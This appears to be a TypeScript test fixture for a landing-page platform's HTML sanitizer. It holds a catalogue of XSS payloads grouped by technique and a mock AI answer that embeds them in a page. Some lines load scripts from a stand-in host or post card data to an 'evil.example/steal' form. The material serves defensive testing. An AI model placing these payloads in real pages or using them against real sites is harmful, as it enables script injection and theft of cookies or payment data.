/**
 * The XSS corpus of QUALITY.md (Security): payloads a model could be tricked into writing, or a creator could type
 * into a field, for every test of the landing pages (generated, saved, published, placed in each input field). No
 * page the platform serves may keep any of them in a form that matches `FORBIDDEN_HTML`. Grouped by technique; each
 * line is a whole payload, usable alone, inside a document or as text.
 */
export const xssPayloads: readonly string[] = [
  // script, in every spelling
  '<script>alert(1)</script>',
  '<ScRiPt>alert(document.cookie)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  // event handlers, mixed case, odd separators
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<body onload=alert(1)>',
  '<div OnMouseOver="alert(1)">hover me</div>',
  '<input onfocus=alert(1) autofocus>',
  '<img/src=x/onerror=alert(1)>',
  '<p title="x" onclick\n=\n"alert(1)">click</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  // svg
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  // javascript: URLs, obfuscated
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="&#106;avascript:alert(1)">decimal entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href=" \u0001javascript:alert(1)">leading space and control</a>',
  '<a href="jav\nascript:alert(1)">newline</a>',
  '<img src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  // data: URLs
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data base64</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  // frames and plugins
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  // the document itself
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<META HTTP-EQUIV="Set-Cookie" CONTENT="session=stolen">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/steal" method="post"><input name="card"><button type="submit" formaction="https://evil.example/2">Pay</button></form>',
  // MathML
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // CSS
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
  '<style>@import "https://evil.example/x.css"; body { background: url("javascript:alert(1)") }</style>',
  '<style>p { color: red }</style><script>alert(1)</script>',
  '<style></style><script>alert(1)</script>',
  '<style>a{}</style ><img src=x onerror=alert(1)>',
  '<div style="x:\\65 xpression(alert(1))">css escape</div>',
  // comments, CDATA, unclosed and broken markup
  '<!--<script>alert(1)</script>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)//',
  '<a href="x" title="x"onmouseover="alert(1)">no space</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<a href=" javascript:alert(1)">leading space</a>',
  '<div title="</div><script>alert(1)</script>">attribute breakout</div>',
  // hiding places
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<button type="submit" formaction="javascript:alert(1)">submit</button>',
];

/**
 * A hostile model answer: a designed page (heading, styles, nav, sections) with every payload above mixed in, in
 * the head, between sections, inside text and in attributes, wrapped in prose and a code fence the way models
 * answer. Sanitized, it must keep the page and lose the payloads. The payload cards come last: some leave a tag
 * open (`<style>`, `<img ...//`) and swallow what follows, as they would in a browser.
 */
export const hostileLandingPage = `Here is your landing page! It is fully responsive.

\`\`\`html
<!DOCTYPE html>
<html lang="en" onload="alert(1)">
<head>
  <meta charset="utf-8">
  <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <base href="https://evil.example/">
  <title>Acme Rockets</title>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <script>alert('head')</script>
  <style>
    @import url("https://evil.example/x.css");
    body { margin: 0; font-family: system-ui, sans-serif; color: #1f2937; background: #fdf2f8; }
    .hero { background: linear-gradient(135deg, #be185d, #7c3aed); color: #ffffff; padding: 4rem 1rem; }
    .evil { background: url(javascript:alert(1)); width: expression(alert(1)); }
    nav a { color: #be185d; }
  </style>
</head>
<body class="page" onload="alert('body')">
  <header>
    <nav aria-label="Main"><a href="#features">Features</a> <a href="javascript:alert(1)">Bad link</a> <a href="#contact">Contact</a></nav>
  </header>
  <main>
    <section class="hero">
      <h1>Acme Rockets</h1>
      <p>We launch ideas. ${xssPayloads.slice(0, 5).join(' ')}</p>
      <a class="button" href="https://example.com/start" target="_blank">Get started</a>
    </section>
    <section id="contact">
      <h2 title="x onmouseover=alert(1)">Contact</h2>
      <p>Write to <a href="mailto:hello@example.com">hello@example.com</a>.</p>
    </section>
    <section id="features">
      <h2>Features</h2>
      ${xssPayloads.map((payload) => `<div class="card">${payload}</div>`).join('\n      ')}
    </section>
  </main>
  <footer><p>&copy; Acme Rockets</p></footer>
</body>
</html>
\`\`\`

Let me know if you want any changes.`;
